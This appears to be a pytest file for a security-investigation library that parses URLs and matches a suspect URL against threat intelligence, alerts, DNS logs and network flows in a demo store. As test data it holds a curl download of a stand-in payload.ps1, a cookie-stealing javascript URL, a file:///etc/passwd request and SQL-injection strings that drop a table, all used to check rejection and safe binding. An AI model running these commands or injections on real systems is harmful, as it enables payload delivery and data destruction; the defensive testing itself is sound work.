"""nblib.urls: URL parts offline, hostile URLs, and each look-up on the demo store (no kernels)."""

from __future__ import annotations

import socket

import pandas as pd
import pytest

from nbcatalog.enrich import settings
from nbcatalog.errors import ParameterError
from nbcatalog.nblib import Investigation, urls

pytest_plugins = ["enrich_support"]  # isolated_config, no_network
pytestmark = pytest.mark.usefixtures("isolated_config")

URL = "http://malicious.example/payload.ps1"


# ------------------------------------------------------------------ parts, offline


def test_parts_of_the_planted_url(no_network):
    p = urls.url_parts(URL)
    assert (p["Scheme"], p["Host"], p["Port"], p["Path"]) == (
        "http",
        "malicious.example",
        80,
        "/payload.ps1",
    )
    assert (p["Domain"], p["RegisteredDomain"], p["Suffix"]) == ("malicious.example",) * 2 + (
        "example",
    )
    assert not no_network  # the public-suffix list is the bundled snapshot


@pytest.mark.parametrize(
    ("url", "host", "registered", "suffix", "subdomain"),
    [
        ("https://www.bbc.co.uk/news", "www.bbc.co.uk", "bbc.co.uk", "co.uk", "www"),
        ("https://a.b.Example.COM:8443/x", "a.b.example.com", "example.com", "com", "a.b"),
        ("http://x.y.blogspot.com/", "x.y.blogspot.com", "y.blogspot.com", "blogspot.com", "x"),
        (
            "ftp://files.corp.internal/a",
            "files.corp.internal",
            "corp.internal",
            "internal",
            "files",
        ),
    ],
)
def test_registered_domain_from_the_bundled_suffix_list(
    no_network, url, host, registered, suffix, subdomain
):
    p = urls.url_parts(url)
    assert (p["Host"], p["RegisteredDomain"], p["Suffix"], p["Subdomain"]) == (
        host,
        registered,
        suffix,
        subdomain,
    )
    assert not no_network


def test_ports_addresses_query_and_fragment():
    p = urls.url_parts("https://[2001:db8::5]/a%20b?q=1&q=2&empty=#frag")
    assert p["HostIsIp"] and p["Host"] == "2001:db8::5" and p["IpClass"] == "documentation"
    assert p["Port"] == 443 and p["Domain"] == "" and p["RegisteredDomain"] == ""
    assert p["Path"] == "/a%20b" and p["Fragment"] == "frag"
    assert p["QueryParameters"] == [["q", "1"], ["q", "2"], ["empty", ""]]
    assert urls.url_parts("ftp://192.0.2.66/x")["Port"] == 21
    assert urls.url_parts("http://192.0.2.66:4444")["Path"] == "/"


def test_user_info_in_a_url_is_flagged():
    finding = urls.parts_finding(urls.url_parts("http://admin:pw@evil.example/"))
    assert finding.notes[0].kind == "warning"
    assert "UserInfo" not in set(finding.data["Part"])


@pytest.mark.parametrize(
    ("url", "message"),
    [
        ("", "url is empty"),
        (
            "javascript:alert(document.cookie)",
            "has scheme 'javascript'; accepted: http, https, ftp",
        ),
        ("data:text/html,<script>alert(1)</script>", "has scheme 'data'"),
        ("file:///etc/passwd", "has scheme 'file'"),
        ("malicious.example/payload.ps1", "has scheme 'none'"),
        ("http://", "has no host"),
        ("http://evil.example/a b", "spaces or control characters"),
        ("http://evil.example/\x00", "spaces or control characters"),
        ("http://evil.example:99999/", "cannot be parsed"),
        ("http://evil.example/" + "a" * 9000, "too long (at most 8192)"),
    ],
)
def test_hostile_urls_are_a_clear_parameter_error(url, message):
    with pytest.raises(ParameterError, match=None) as info:
        urls.url_parts(url)
    assert message in str(info.value)
    assert len(str(info.value)) < 300  # a long value is shortened in the message


def test_quotes_and_query_fragments_are_literal_values():
    url = "http://evil.example/a'\";--?q=x|where 1==1;DROP%20TABLE%20SecurityAlert"
    with pytest.raises(ParameterError):  # spaces are refused
        urls.url_parts(url)
    literal = url.replace(" ", "%20")
    p = urls.url_parts(literal)
    assert p["Url"] == literal and p["Path"] == "/a'\";--"
    assert p["Query"] == "q=x|where%201==1;DROP%20TABLE%20SecurityAlert"


# ------------------------------------------------------------------ text matching


def test_matched_on_url_domain_or_nothing():
    p = urls.url_parts(URL)
    assert urls.matched_on(f"curl -fsSL {URL.upper()} -o x", p) == "url"
    assert urls.matched_on("QueryName: malicious.example", p) == "domain"
    assert urls.matched_on("http://notmalicious.example/payload.ps1", p) == ""
    assert urls.matched_on("malicious.example.evil.test", p) == ""
    assert urls.matched_on(None, p) == ""


def test_known_addresses_from_logged_dns_answers():
    p = urls.url_parts(URL)
    evidence = (
        '<Data Name="QueryName">MALICIOUS.example.</Data>'
        '<Data Name="QueryResults">type:  5 cdn.example;::ffff:192.0.2.66;2001:db8::66;</Data>'
    )
    other = '<Data Name="QueryName">other.example</Data><Data Name="QueryResults">::ffff:10.0.0.1;'
    sightings = pd.DataFrame(
        {"Computer": ["WKSTN-042", "WKSTN-001"], "Evidence": [evidence, other + "</Data>"]}
    )
    found = urls.known_addresses(p, sightings)
    assert found.data.values.tolist() == [
        ["192.0.2.66", "DNS query logged on WKSTN-042"],
        ["2001:db8::66", "DNS query logged on WKSTN-042"],
    ]
    none = urls.known_addresses(p, pd.DataFrame())
    assert none.empty and "no address of malicious.example is known offline" in none.messages()[0]


def test_reaching_hosts_merge_evidence_and_skip_accounts():
    t = pd.to_datetime(["2024-05-01 10:00", "2024-05-02 10:00"], utc=True)
    sightings = pd.DataFrame(
        {
            "TimeGenerated": t,
            "Computer": ["WKSTN-042", "wkstn-042"],
            "Source": ["syslog message", "Windows event"],
        }
    )
    alerts = pd.DataFrame(
        {
            "CompromisedEntity": ["bob@contoso.com", "WKSTN-042"],
            "AlertDisplayName": ["a", "<b>b</b>"],
            "StartTimeUtc": t,
        }
    )
    hosts = urls.reaching_hosts(alerts, sightings, None).data
    assert hosts["Host"].tolist() == ["WKSTN-042"]
    assert hosts.loc[0, "Evidence"] == "syslog message, Windows event, alert: <b>b</b>"
    assert (hosts.loc[0, "FirstSeen"], hosts.loc[0, "LastSeen"]) == (t[0], t[1])
    assert urls.reaching_hosts(None, None, None).messages() == [
        "info: no host is seen reaching the URL or its host"
    ]


# ------------------------------------------------------------------ online look-ups


def test_online_lookups_are_skipped_unless_configured(no_network):
    p = urls.url_parts(URL)
    for finding in (urls.dns_lookup(p), urls.whois_lookup(p, ["8.8.8.8"]), urls.screenshot(p)):
        assert finding.empty and finding.notes[0].kind == "skipped"
        assert "nothing was sent over the network" in finding.notes[0].text
        assert "[enrichment.url]" in finding.notes[0].text
    assert not no_network


def test_dns_runs_when_configured():
    settings.configure({"url": {"dns": True}})
    asked = []

    def resolve(host):
        asked.append(host)
        return ["192.0.2.66", "192.0.2.66", "2001:db8::66"]

    found = urls.dns_lookup(urls.url_parts(URL), resolve=resolve)
    assert asked == ["malicious.example"]
    assert found.data["Address"].tolist() == ["192.0.2.66", "2001:db8::66"]
    ip_url = urls.dns_lookup(urls.url_parts("http://192.0.2.66/"), resolve=resolve)
    assert ip_url.empty and asked == ["malicious.example"]


def test_configured_dns_failure_is_a_note(no_network):
    settings.configure({"url": {"dns": True, "whois": True}})
    found = urls.dns_lookup(urls.url_parts(URL))  # the system resolver, blocked here
    assert found.empty and found.notes[0].kind == "warning"
    assert no_network and no_network[0].startswith("getaddrinfo")
    whois = urls.whois_lookup(urls.url_parts(URL), ["192.0.2.66", "10.0.0.1"])
    assert whois.messages() == ["info: no public address of the host is known: nothing to look up"]
    assert socket.getaddrinfo is not None


def test_a_misspelt_url_setting_is_an_error():
    with pytest.raises(
        ValueError, match="unknown setting 'screenshots'; did you mean 'screenshot'"
    ):
        settings.configure({"url": {"screenshots": True}})


# ------------------------------------------------------------------ on the demo store


@pytest.fixture(scope="module")
def demo_inv(demo_db):
    return Investigation.open(f"duckdb:{demo_db}")


def test_ti_matches_the_url_and_its_domain(demo_inv, no_network):
    ti = urls.url_ti(demo_inv, urls.url_parts(URL))
    hits = ti.data[ti.data["Result"]]
    assert set(hits["Ioc"]) == {URL, "malicious.example"}
    assert set(hits["Severity"]) == {"high"}
    assert ti.notes[0].kind == "finding"
    assert not no_network


def test_alerts_that_mention_the_url(demo_inv):
    found = urls.url_alerts(demo_inv, urls.url_parts(URL))
    assert found.data["AlertDisplayName"].tolist() == ["Encoded PowerShell download cradle"]
    assert found.data["MatchedOn"].tolist() == ["url"]
    other = urls.url_alerts(demo_inv, urls.url_parts("http://malicious.example/other.ps1"))
    assert other.data["MatchedOn"].tolist() == ["domain"]  # same host, another path


def test_no_bookmark_mentions_the_url_but_one_mentions_the_attacker(demo_inv):
    found = urls.url_bookmarks(demo_inv, urls.url_parts(URL))
    assert found.empty and "no bookmark" in found.messages()[0]
    # The bookmarks name 203.0.113.77 in their row: an URL on that address matches its host.
    by_ip = urls.url_bookmarks(demo_inv, urls.url_parts("http://203.0.113.77/x"))
    assert len(by_ip.data) >= 1 and set(by_ip.data["MatchedOn"]) == {"domain"}


def test_sightings_hosts_and_flows_on_the_demo(demo_inv):
    p = urls.url_parts(URL)
    sightings = urls.url_sightings(demo_inv, p)
    by_source = set(zip(sightings.data["Computer"], sightings.data["Source"], strict=True))
    assert ("WKSTN-042", "process command line (decoded)") in by_source
    assert ("LNX-WEB01", "syslog message") in by_source
    assert ("WKSTN-042", "Windows event") in by_source  # the Sysmon DNS query
    addresses = urls.known_addresses(p, sightings.data)
    assert addresses.data["Address"].tolist() == ["192.0.2.66"]
    flows = urls.url_flows(demo_inv, p, addresses.data)
    assert len(flows.data) > 0
    assert set(flows.data["DestIP"]) == {"192.0.2.66"}
    assert set(pd.to_numeric(flows.data["DestPort"])) == {80}  # not the C2 beacons on 4444
    assert set(flows.data["VMName"]) == {"WKSTN-042"}
    assert any("other ports" in m for m in flows.messages())
    hosts = urls.reaching_hosts(None, sightings.data, flows.data).data
    assert set(hosts["Host"]) == {"WKSTN-042", "LNX-WEB01"}


def test_hostile_url_values_are_bound_not_run(demo_inv, demo_db):
    p = urls.url_parts("http://x.example/a'--?q=1|union%20*;DROP%20TABLE%20SecurityAlert")
    for step in (urls.url_alerts, urls.url_bookmarks, urls.url_sightings, urls.url_ti):
        assert step(demo_inv, p).empty or step is urls.url_ti
    again = urls.url_alerts(demo_inv, urls.url_parts(URL))
    assert len(again.data) == 1  # nothing was dropped


def test_sightings_need_the_embedded_store():
    class Workspace:
        def tables(self):
            return ["SecurityEvent"]

    inv = Investigation(
        Workspace(), pd.Timestamp("2024-05-01", tz="UTC"), pd.Timestamp("2024-05-02", tz="UTC")
    )
    found = urls.url_sightings(inv, urls.url_parts(URL))
    assert found.empty and found.notes[0].kind == "skipped"
    flows = urls.url_flows(inv, urls.url_parts(URL), pd.DataFrame(columns=["Address"]))
    assert flows.messages() == ["skipped: no address of malicious.example is known offline"]


def test_reaching_hosts_joins_short_and_full_names_of_one_machine():
    when = pd.to_datetime(["2024-05-01", "2024-05-02"], utc=True)
    sightings = pd.DataFrame(
        {
            "TimeGenerated": when,
            "Computer": ["WIN-E2E01.contoso.local", "LNX-WEB01"],
            "Source": "log",
        }
    )
    alerts = pd.DataFrame(
        {
            "CompromisedEntity": ["WIN-E2E01", "192.0.2.66"],
            "StartTimeUtc": when,
            "AlertDisplayName": ["Encoded PowerShell", "C2 beacon"],
        }
    )
    hosts = urls.reaching_hosts(alerts, sightings, None).data
    assert len(hosts) == 3  # WIN-E2E01 once, LNX-WEB01, and the address kept whole
    win = hosts[hosts["Host"].str.upper().str.startswith("WIN-E2E01")]
    assert len(win) == 1
    assert "alert: Encoded PowerShell" in win["Evidence"].iloc[0]
